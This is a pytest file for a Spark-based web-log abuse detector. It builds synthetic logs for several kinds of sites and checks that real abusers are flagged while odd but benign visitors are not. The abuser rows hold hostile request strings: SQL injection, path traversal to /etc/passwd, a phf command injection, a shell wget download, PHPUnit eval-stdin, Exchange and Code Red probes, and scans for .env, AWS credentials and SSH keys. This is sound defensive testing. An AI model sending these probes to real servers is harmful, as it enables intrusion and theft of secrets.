"""Who is a suspect on a real log, by hand-made labels, and on other kinds of sites, by what their visitors do."""

from __future__ import annotations

import csv
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.spark, pytest.mark.slow]

LABELS = {row["address"]: row["label"] for row in csv.DictReader((Path(__file__).parent / "labels.csv").open())}
NOON = datetime(2024, 3, 4, 12, tzinfo=UTC)


@pytest.fixture(scope="module")
def found(shipped: Any) -> dict[str, Any]:
    """The suspects of the shipped log."""
    from workers.api_requests.detect.spam import acts, evidence
    from workers.api_requests.stream import parse

    return {one.address: one for one in evidence.suspects_of(parse.requests(shipped).select(*acts.EVIDENCE))}


def test_every_suspect_of_the_shipped_log_is_labelled_an_abuser(found: dict[str, Any]) -> None:
    assert {address for address in found if LABELS.get(address, "ordinary") != "abuse"} == set()


def test_nine_of_ten_abusers_of_the_shipped_log_are_found(found: dict[str, Any]) -> None:
    abusers = {address for address, label in LABELS.items() if label == "abuse"}
    assert len(abusers & found.keys()) / len(abusers) >= 0.9


def test_the_busiest_is_left_in_peace(found: dict[str, Any]) -> None:
    assert "148.87.179.6" not in found


def test_the_sweep_of_six_minutes_is_found_with_its_figures(found: dict[str, Any]) -> None:
    sweep = found["152.91.93.52"]
    assert (sweep.requests, sweep.first_seen) == (429, datetime(2024, 5, 16, 18, 13, 56, tzinfo=UTC))
    assert any("428 of 429 requests failed within 6 minutes" in reason for reason in sweep.reasons)


def test_one_who_worked_through_part_of_a_sweeps_list_is_found(found: dict[str, Any]) -> None:
    assert "other suspects" in " ".join(found["144.216.116.42"].reasons)


class Site:
    """A log in the making: ``visit(address, [...])`` with requests like "GET /a 200", so many seconds apart."""

    def __init__(self) -> None:
        self.rows: list[tuple[str, datetime, str, str, str, int]] = []
        self.abusers: set[str] = set()

    def visit(self, address: str, requests: list[str], *, every: float = 2.0, start: float = 0.0) -> None:
        for number, request in enumerate(requests):
            method, _, rest = request.partition(" ")
            target, _, status = rest.rpartition(" ")
            path, _, query = target.partition("?")
            self.rows.append((address, NOON + timedelta(seconds=start + every * number), method, path, query, int(status)))

    def abuse(self, address: str, requests: list[str], **when: float) -> None:
        self.abusers.add(address)
        self.visit(address, requests, **when)

    def suspects(self, spark: Any) -> set[str]:
        from workers.api_requests.detect.spam import evidence

        frame = spark.createDataFrame(
            self.rows, "address string, time timestamp, method string, path string, query string, status int"
        )
        return {one.address for one in evidence.suspects_of(frame)}


def readers(site: Site, pages: list[str], count: int = 20) -> None:
    """People who read a few pages, with what their browsers ask for by themselves."""
    chance = random.Random(1)
    for n in range(count):
        mine = [f"GET {page} 200" for page in chance.choices(pages, k=6)]
        by_themselves = ["GET /favicon.ico 404", "GET /apple-touch-icon.png 404", "GET /robots.txt 404"]
        site.visit(f"10.1.0.{n}", mine + by_themselves[: n % 4])


def words(count: int) -> Iterator[str]:
    chance = random.Random(2)
    for _ in range(count):
        yield "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=7))


def test_a_wordpress_site(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/2024/01/hello/", "/about/", "/contact/", "/wp-content/uploads/a.jpg", "/wp-includes/js/jquery.js"])
    login = ["GET /wp-login.php 200", "POST /wp-login.php 200", "POST /wp-login.php 200", "POST /wp-login.php 302"]
    for n in range(4):
        site.visit(
            f"10.2.0.{n}",
            [*login, "GET /wp-admin/ 200", "GET /wp-admin/post.php?post=7 200", "POST /wp-admin/admin-ajax.php 200"] * 3,
        )
    site.visit("10.2.1.1", ["POST /xmlrpc.php?for=jetpack 200"] * 400, every=1)
    site.visit("10.2.1.2", ["POST /xmlrpc.php 200"] * 30 + ["GET /wp-json/wp/v2/posts 200"] * 5)  # a phone's editor
    site.visit("10.2.1.3", ["POST /wp-cron.php?doing_wp_cron=1 200"] * 500, every=60)  # the site itself
    site.visit("10.2.1.4", ["GET /robots.txt 200", *(f"GET /tag/{word}/ 404" for word in words(90)), "GET /about/ 200"], every=20)
    site.visit(
        "10.2.1.5", ["GET /wp-admin 301", "GET /wp-admin/ 302", "GET /wp-login.php?redirect_to=x 200"]
    )  # and thought better of it
    site.visit("10.2.1.7", [f"GET /wp-content/themes/thin/timthumb.php?src={n}.jpg 200" for n in range(30)])
    site.visit(
        "10.2.1.8", [f"GET /wp-content/themes/gone/timthumb.php?src={n}.jpg 404" for n in range(30)]
    )  # a search for images
    site.abuse("66.0.0.5", ["POST /wp-login.php 200"] * 80, every=180)
    site.abuse("66.0.0.6", ["GET /2024/01/hello/ 200", "POST /wp-comments-post.php 302"] * 40, every=5)
    site.abuse("66.0.0.7", ["GET /wp-includes/fonts/css.php 404", "GET /.well-known/about.php 404"])
    site.visit("10.2.1.6", ["POST /wp-comments-post.php 302", "POST /wp-comments-post.php 409"] * 3)
    site.abuse("66.0.0.1", ["POST /wp-login.php 200"] * 300, every=1)
    site.abuse(
        "66.0.0.2", [f"GET /{folder}/wp-includes/wlwmanifest.xml 404" for folder in ("blog", "web", "site", "cms", "test", "wp")]
    )
    site.abuse("66.0.0.3", ["GET /wp-config.php.bak 404", "GET /.env 403", "GET /wp-content/uploads/shell.php 404"])
    site.abuse("66.0.0.4", ["POST /xmlrpc.php 200"] * 500, every=0.5)
    assert site.suspects(spark) == site.abusers


def test_a_site_that_moved_and_broke_much(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/docs/", "/docs/install", "/blog/one", "/blog/two"])
    site.visit("10.3.0.1", ["GET /gallery 200", *(f"GET /img/{word}.jpg 404" for word in words(120))], every=0.1)
    site.visit(
        "10.3.0.2", ["GET /robots.txt 200", *(f"GET /{word}.html 404" for word in words(140))], every=4
    )  # a crawler's old list
    site.visit("10.3.0.3", [f"GET /tiles/9/{x}/{y}.png 404" for x in range(20) for y in range(20)], every=0.2)
    site.visit("10.3.0.4", [f"GET /api/items/{n} 404" for n in range(600)], every=0.5)
    site.visit("10.3.0.5", ["GET /old/bookmark.html 404"] * 500, every=30)
    site.visit("10.3.0.6", ["GET /api/v1/status 500"] * 900, every=1)
    site.visit("10.3.0.7", ["POST /api/token/refresh 401"] * 900, every=1)
    known = [f"/{word}-{word}.html" for word in words(240)]
    for n in range(3):  # crawlers of what the site was before, who leave robots.txt to a colleague
        site.visit(f"10.3.2.{n}", [f"GET {link} 404" for link in known], every=0.3, start=3600 * n)
    site.visit("10.3.2.3", [f"GET /{word}-{word}/ 404" for word in words(400)], every=0.8)
    site.visit("10.3.2.4", [f"GET /users/{word}/picture 404" for word in words(300)], every=0.1)
    site.visit("10.3.2.5", (["POST /login 302"] * 3 + ["POST /login 401"]) * 60, every=3)  # an office
    office = ["admin", "login", "test", "users", "portal", "webmail", "logs", "old", "server", "pma/", "wp-login.php", "owa/"]
    site.visit("10.3.2.6", [f"GET /docs/{n % 40} 200" for n in range(900)] + [f"GET /{word} 404" for word in office], every=30)
    site.visit("10.3.2.7", ["GET /%3C?php%20echo%20home_url();%20?%3E 404"])  # a link of somebody's broken template
    site.visit("10.3.2.8", ["GET /manual/phpunit/assertions.html 404", "GET /man/etc/passwd.5 404", "GET /notes/etc/shadow 404"])
    site.abuse("66.0.1.9", ["POST /login 401"] * 200, every=1)
    site.abuse("66.0.1.10", ["POST /api/v1/login 422"] * 400, every=0.5)
    site.abuse("66.0.1.11", [f"GET /{name} 404" for name in ("backup.zip", "www.zip", "db.sql.zip", "index.php.bak", "site.rar")])
    site.abuse("66.0.1.12", ["GET /%2e%65nv 404"])
    for n in range(3):
        site.abuse(f"66.0.3.{n}", ["GET /ecp/login.aspx 404"], start=9000 * n)
        site.abuse(f"66.0.4.{n}", ["GET /blog/wp-login.php 404", "GET /administrator/ 404", "GET /admin.php 404"], start=8000 * n)
        site.visit(f"10.3.3.{n}", ["POST /forum/xmlrpc.php 404", "GET /forum/wp-login.php 404", "GET /forum/wp-admin/ 404"])
    site.visit("10.3.4.1", ["GET /wiki/wp-login.php 404", "GET /login 404", "GET /manage 404"])  # nobody else does
    site.abuse(
        "66.0.1.13", [f"HEAD /docs/{name}/fckeditor/editor/fckeditor.html 404" for name in ("", "js", "inc", "lib", "cms")]
    )
    site.visit("10.3.4.2", ["GET /forum/new 200", *(f"GET /js/tinymce/plugins/{name}.js 404" for name in words(6))])
    site.visit("10.3.0.8", ["GET /api/search?q=a 404", "GET /api/search?q=b 404", "GET /api/search?q=c 200"] * 300)
    site.visit("10.3.0.9", ["HEAD / 503", "GET /health 404", "GET /server-status 403"] * 500, every=60)  # monitoring
    site.visit(
        "10.3.1.0", ["GET /docs/ 200", "GET /blog/one 200", "GET /docs/install 200", "GET /blog/two 404"] * 1500, every=0.3
    )  # a NAT
    site.visit("10.3.1.0", ["GET /.env 404", "GET /wp-login.php 404"], start=60)  # with somebody curious behind it
    site.visit(
        "10.3.1.1",
        ["POST /autodiscover/autodiscover.xml 404", "GET /Autodiscover/Autodiscover.xml 404", "GET /ews/exchange.asmx 404"],
    )
    site.visit(
        "10.3.1.2", ["POST /xmlrpc.php 404", "GET /wp-login.php 404", "GET /wp-admin/ 404"]
    )  # a phone that knew the old site
    site.visit("10.3.1.3", ["GET /phpmyadmin/ 404", "GET /pma/ 404", "GET /phpMyAdmin/ 404"])  # the owner, guessing
    site.visit("10.3.1.4", ["PROPFIND /share 405", "GET /share/.DS_Store 404", "GET /share/._.DS_Store 404"] * 20)
    site.visit("10.3.1.5", ["GET / 499"] * 60 + ["GET /docs/ 408"] * 20)
    site.visit("10.3.1.6", ["GET /docs/?q=how+to+select+a+union 200", "GET /docs/?q='or+1=1 200", "GET /docs/ 200", "GET / 200"])
    site.visit("10.3.1.7", ["GET /owa/auth/logon.aspx 404"])
    site.visit(
        "10.3.1.8", ["GET / 200", "GET /admin 404", "GET /login 404", "GET /wp-admin 404", "GET /administrator 404"]
    )  # how to log in?
    site.abuse("66.0.1.1", [f"GET /{word} 404" for word in words(300)], every=0.5)
    site.abuse("66.0.1.2", [f"GET /docs/?id=1'+union+select+{n},2,3--+ 200" for n in range(30)])
    site.abuse("66.0.1.3", ["GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd 400", "GET /download?file=../../../../etc/passwd 404"])
    site.abuse("66.0.1.4", ["GET /.git/config 404", "GET / 200", "GET /.env 404"], every=86_400)
    site.abuse(
        "66.0.1.5",
        ["GET / 200", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404", "GET /shell?cd+/tmp;wget+http://x 404"],
    )
    site.abuse(
        "66.0.1.7",
        [f"GET {path} 404" for path in ("/pma/", "/phpmyadmin/", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/.env")],
    )
    guesses = ["admin", "backup", "backups", "test", "old", "dev", "tmp", "upload", "uploads", "logs", "secret", "internal"]
    site.abuse("66.0.1.8", ["GET / 200", "GET /docs/ 200", *(f"GET /{name} 404" for name in guesses)], every=0.5)
    site.abuse("66.0.1.6", ["GET /solr/admin/ 404", "GET /manager/html 404", "GET /owa/ 404", "GET /remote/login 404"])
    assert site.suspects(spark) == site.abusers


def test_a_site_that_answers_every_path_with_its_one_page(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/app", "/settings", "/.env-guide", "/wp-login.php"])
    site.visit("10.4.0.1", ["GET /wp-login.php 200"])
    for n in range(4):  # an app that fetches its settings so, and those who have the rest in their browsers
        site.visit(f"10.4.1.{n}", ["GET / 200", "GET /app 200", "GET /main.js 200", "GET /part.js 200", "GET /assets/.env 200"])
        site.visit(f"10.4.2.{n}", ["GET / 304", "GET /assets/.env 304"])
    site.abuse("66.0.2.2", ["GET /.env 200"])
    site.abuse("66.0.2.3", ["GET / 200", "GET /.git/config 302"])
    secrets = ("/.env", "/.env.bak", "/.git/config", "/.aws/credentials", "/id_rsa", "/backup.sql", "/_profiler/phpinfo")
    site.abuse("66.0.2.1", [f"GET {path} 200" for path in secrets])
    assert site.suspects(spark) == site.abusers


def test_a_site_that_shows_code(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/me/app", "/me/app/blob/main/.env", "/me/app/blob/main/.git/config", "/me/app/raw/main/wp-config.php"])
    site.visit("10.5.0.1", ["GET /me/app/blob/main/.env 200"])
    site.visit(
        "10.5.0.2",
        ["GET /me/app.git/info/refs 200", "GET /me/app.git/HEAD 200", *(f"GET /me/app.git/objects/{w} 404" for w in words(40))],
    )
    site.visit("10.5.0.3", ["GET /me/app/blob/dev/.env 404", "GET /me/app 200", "GET / 200"])
    site.visit("10.5.0.5", [f"GET /me/app/-/blob/main/{n}/.env 200" for n in range(30)])  # a crawler
    site.visit("10.5.0.6", ["GET /me/app/raw/main/.env.example 404"])
    site.visit("10.5.0.7", ["GET /search?q=phpinfo()+or+1=1 200"])
    site.visit("10.5.0.4", ["GET /search?q=union+select+1 200", "GET /search?q=<script>alert(1)</script> 200", "GET /me/app 200"])
    site.abuse("66.0.3.1", ["GET /.env 404"])
    assert site.suspects(spark) == site.abusers


def test_a_site_of_1995(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/shuttle/missions/", "/images/logo.gif", "/history/history.html"])
    for n in range(6):
        site.visit(
            f"pc{n}.isp.example",
            [f"GET /cgi-bin/imagemap/countdown?{n},176 302", "GET /cgi-bin/geturlstats.pl 404", "GET /history/ 200"],
        )
    site.visit(
        "pc9.isp.example",
        ["GET /shuttle/../../images/a.gif 404", "GET /pub/winvn/readme.txt 404", "GET /cgi-bin/missing 404"] * 8,
    )
    site.visit("pc10.isp.example", [f"GET /cgi-bin/{word}.pl 404" for word in words(9)])
    site.visit("pc11.isp.example", ["GET /software/../windows/winvn.html 404", "GET /C:/WINDOWS/DESKTOP/a.gif 404"])
    site.visit("pc12.isp.example", ["GET /_vti_bin/owssvr.dll?UL=1 404", "GET /MSOffice/cltreq.asp?UL=1 404"])
    site.abuse("pc66.isp.example", ["GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd 404"])
    site.abuse("pc67.isp.example", ["GET /default.ida?XXXX%u9090 404", "GET /scripts/root.exe?/c+dir 404"])
    assert site.suspects(spark) == site.abusers


def test_a_company_whose_mail_lives_elsewhere(spark: Any) -> None:
    site = Site()
    readers(site, ["/", "/jobs", "/about"])
    for n in range(9):  # mail programs look here first
        site.visit(f"10.6.0.{n}", ["POST /autodiscover/autodiscover.xml 404"] * (n + 1))
        who = f"Email=ann{n}%40company.example&Protocol=ActiveSync"
        site.visit(f"10.6.1.{n}", [f"GET /autodiscover/autodiscover.json?{who} 404", "OPTIONS /ews/exchange.asmx 404"])
        site.visit(f"10.6.2.{n}", ["GET /owa 404", "GET /favicon.ico 404"])
    site.abuse("66.0.6.1", ["GET /autodiscover/autodiscover.json?@zdi/Powershell 404"])
    site.abuse("66.0.6.2", ["GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application 404"])
    assert site.suspects(spark) == site.abusers


def test_nothing_to_judge(spark: Any) -> None:
    assert Site().suspects(spark) == set()


def test_the_user_agent_is_not_even_looked_at() -> None:
    from workers.api_requests.detect.spam import acts

    assert "agent" not in acts.EVIDENCE
